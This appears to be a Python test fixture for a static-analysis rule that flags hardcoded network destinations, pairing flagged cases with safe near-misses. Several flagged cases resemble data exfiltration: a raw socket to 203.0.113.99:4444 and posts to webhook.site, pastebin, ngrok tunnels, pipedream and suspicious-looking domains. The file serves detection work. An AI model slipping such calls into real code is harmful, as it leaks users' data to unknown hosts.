import http.client
import ipaddress
import socket
import urllib.request

import httpx
import requests

# ruleid: hardcoded-network-destination
COLLECTOR = "http://198.51.100.23:8080/ingest"
API_BASE = "https://api.example.com"


def report(stats):
    # ruleid: hardcoded-network-destination
    requests.post("http://203.0.113.10/collect", json=stats, timeout=5)


def fetch_user(uid):
    # ruleid: hardcoded-network-destination
    return httpx.get(f"http://10.20.30.40:8000/users/{uid}")


def push(stats):
    # ruleid: hardcoded-network-destination
    requests.put(COLLECTOR, json=stats)


def ping_home():
    # ruleid: hardcoded-network-destination
    urllib.request.urlopen("https://192.0.2.44/ping")


def raw_socket(data):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # ruleid: hardcoded-network-destination
    s.connect(("203.0.113.99", 4444))
    s.sendall(data)


def http_client():
    # ruleid: hardcoded-network-destination
    conn = http.client.HTTPSConnection("198.51.100.7")
    return conn


def session_post(payload):
    with requests.Session() as session:
        # ruleid: hardcoded-network-destination
        session.post("https://webhook.site/3f1c2a9e-0000-4000-8000-abcdef012345", data=payload)


def paste(text):
    # ruleid: hardcoded-network-destination
    requests.post("https://pastebin.com/api/api_post.php", data={"api_paste_code": text})


# ---- secure near-misses ----


def local_health():
    # ok: hardcoded-network-destination
    return requests.get("http://127.0.0.1:8000/health", timeout=2)


def localhost_api():
    # ok: hardcoded-network-destination
    return httpx.get("http://localhost:8080/api/items")


def named_api(path):
    # ok: hardcoded-network-destination
    return requests.get(f"{API_BASE}/{path}", timeout=10)


def configured(settings, payload):
    # ok: hardcoded-network-destination
    return requests.post(settings.METRICS_URL, json=payload, timeout=5)


def known_service():
    # ok: hardcoded-network-destination
    return requests.get("https://api.github.com/repos/python/cpython", timeout=10)


def rate_limit(attempts):
    # ok: hardcoded-network-destination
    return attempts.get("203.0.113.5", 0)


def local_socket():
    s = socket.socket()
    # ok: hardcoded-network-destination
    s.connect(("127.0.0.1", 6379))


# ruleid: hardcoded-network-destination
WAREHOUSE_API = "https://52.14.201.77/inventory/v1"
# ruleid: hardcoded-network-destination
UPSTREAM_PROXY = "http://159.89.49.172:8118"
# ok: hardcoded-network-destination
STATSD_HOST = "127.0.0.1"
# ok: hardcoded-network-destination
INTERNAL_RANGE = ipaddress.ip_network("10.0.0.0/8")


# ruleid: hardcoded-network-destination
def send_heartbeat(payload, collector=("52.28.144.61", 9125)):
    return payload, collector


# ruleid: hardcoded-network-destination
FLIGHTLOG_UPLOAD = "https://flightlog-sync.duckdns.org/upload"


def push_flightlog(data):
    # ruleid: hardcoded-network-destination
    return requests.post(FLIGHTLOG_UPLOAD, data=data, timeout=30)


def push_status(data):
    # ok: hardcoded-network-destination
    return requests.post("https://duckdns-status.example.com/report", json=data, timeout=30)


# ruleid: hardcoded-network-destination
RELAY_HOST = "52.59.211.147"


# (the default is the constant's value, and is reported where it stands too)
# ruleid: hardcoded-network-destination
def relay_endpoint(host=RELAY_HOST, port=5760):
    return f"tcp:{host}:{port}"


SUBSCRIBERS = [
    # ok: hardcoded-network-destination
    {"name": "resale-ledger", "url": "https://ledger.festival.example/resale/events"},
    # ruleid: hardcoded-network-destination
    {"name": "partner-bridge", "url": "https://3f9c-81-2-69-142.ngrok-free.app/resale/events"},
    dict(
        name="fraud-review",
        # ruleid: hardcoded-network-destination
        url="https://7a1e-81-2-69-142.ngrok-free.app/resale/events",
    ),
    # ok: hardcoded-network-destination
    dict(name="crm", url="https://crm.festival.example/hooks"),
]


def fan_out(event):
    for sub in SUBSCRIBERS:
        requests.post(sub["url"], json=event, timeout=5)


# ruleid: hardcoded-network-destination
def hand_over(path, endpoint="https://7c1e-185-42-17-9.ngrok-free.app/imports/members"):
    with open(path, "rb") as fh:
        # (reported at the default above)
        return requests.put(endpoint, data=fh, timeout=60)


# ruleid: hardcoded-network-destination
DEBUG_COLLECTOR: str = "https://collect.pipedream.net/ingest"
# ok: hardcoded-network-destination
MAILING_IMPORT: str = "https://mail.festival.example/imports/members"


def hand_over_to_mailer(path, endpoint: str = MAILING_IMPORT):
    with open(path, "rb") as fh:
        # ok: hardcoded-network-destination
        return requests.put(endpoint, data=fh, timeout=60)


# the supplier's four-part catalogue schema version, sent as a header
# ok: hardcoded-network-destination
CATALOG_SCHEMA = "4.10.2.1"
# ruleid: hardcoded-network-destination
CATALOG_MIRROR = "203.0.113.41"


class BenchmarkSharing:
    # a host under a top-level domain registered mostly for abuse, kept on the class
    # ruleid: hardcoded-network-destination
    INGEST_URL = "https://collect.ergmetrics-stat.xyz/v2/ingest"
    # ok: hardcoded-network-destination
    RESULTS_URL = "https://results.rowing-federation.example/v2/ingest"
    # ok: hardcoded-network-destination
    WEATHER_URL = "https://avwx.rest/api/metar"

    def share(self, sample):
        # ruleid: hardcoded-network-destination
        requests.post("https://agent-releases.cdn-fastsync.top/stable", json=sample, timeout=4)
        # ok: hardcoded-network-destination
        return requests.post(self.RESULTS_URL, json=sample, timeout=4)


def _collector_addr():
    # ruleid: hardcoded-network-destination
    return ("91.207.175.40", 6514)


def _schema_version():
    # ok: hardcoded-network-destination
    return "4.10.2.1"


def _loopback_addr():
    # ok: hardcoded-network-destination
    return ("127.0.0.1", 6514)
